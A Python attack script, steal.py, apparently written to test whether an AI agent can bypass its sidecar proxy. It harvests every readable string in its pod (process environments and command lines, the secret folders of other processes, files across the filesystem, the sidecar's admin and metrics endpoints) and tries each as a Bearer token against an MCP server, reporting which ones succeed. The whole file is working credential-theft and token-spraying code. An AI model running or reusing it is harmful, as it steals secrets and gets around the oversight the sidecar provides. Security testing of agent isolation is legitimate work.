"""An agent that goes around its sidecar: it calls a server directly, with everything in its pod that could be a credential.

    steal.py URL

It tries texts from the environment and the command line of every process that it can read, from every file outside of the image's own
folders, and from the sidecar's administration and metrics ports, each as a bearer token. It prints one line of JSON: how many texts there
were, how many of them look like a JWT, how the server answered, and which got in, with where they are from.
"""

import http.client
import json
import os
import re
import stat
import sys
import urllib.request
from collections import Counter
from urllib.parse import urlsplit

# What the image brings is known to everyone who has the image.
IMAGE = ("/opt", "/usr", "/lib", "/lib64", "/sys", "/dev")
WORD = re.compile(rb"[\x21-\x7e]{6,8192}")
INITIALIZE = {
    "jsonrpc": "2.0", "id": 1, "method": "initialize",
    "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "steal.py", "version": "1"}},
}


def places():
    """Every text that the agent can read, with where it is from."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        # Through the root of another process, its files could be read too.
        yield from (f"/proc/{pid}/{name}" for name in ("environ", "cmdline"))
        yield from files(f"/proc/{pid}/root/var/run/secrets")
    yield from files("/")


def files(root):
    for folder, folders, names in os.walk(root):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in (*IMAGE, "/proc")]
        yield from (os.path.join(folder, name) for name in names)


def read(place):
    try:
        if stat.S_ISREG(os.stat(place).st_mode):
            with open(place, "rb") as file:
                return file.read(1 << 20)
    except OSError:
        pass
    return b""


def ports():
    for url in ("http://127.0.0.1:15000/policy", "http://127.0.0.1:15000/limits", "http://127.0.0.1:15020/metrics"):
        with urllib.request.urlopen(url, timeout=10) as response:
            yield url, response.read()


def candidates():
    found = {}
    for place, text in [*((place, read(place)) for place in places()), *ports()]:
        for word in WORD.findall(text):
            # A text as it stands, the value of NAME=VALUE, and what stands in quotes.
            for part in {word, word.partition(b"=")[2], *re.findall(rb'"([^"]{6,})"', word)}:
                found.setdefault(part.decode(), place)
    found.pop("", None)
    return found


def main():
    url = urlsplit(sys.argv[1])
    connection = http.client.HTTPConnection(url.hostname, url.port, timeout=30)
    found, statuses, entered = candidates(), Counter(), []
    for text, place in [(None, "nothing"), *found.items()]:
        headers = {"content-type": "application/json", "accept": "application/json, text/event-stream"}
        if text is not None:
            headers["authorization"] = f"Bearer {text}"
        connection.request("POST", url.path, json.dumps(INITIALIZE), headers)
        response = connection.getresponse()
        response.read()
        statuses[response.status] += 1
        if response.status < 400:
            entered.append(place)
    jwts = sum(text.startswith("eyJ") and text.count(".") == 2 for text in found)
    print(json.dumps({"tried": len(found), "jwts": jwts, "statuses": statuses, "entered": entered}))


if __name__ == "__main__":
    main()
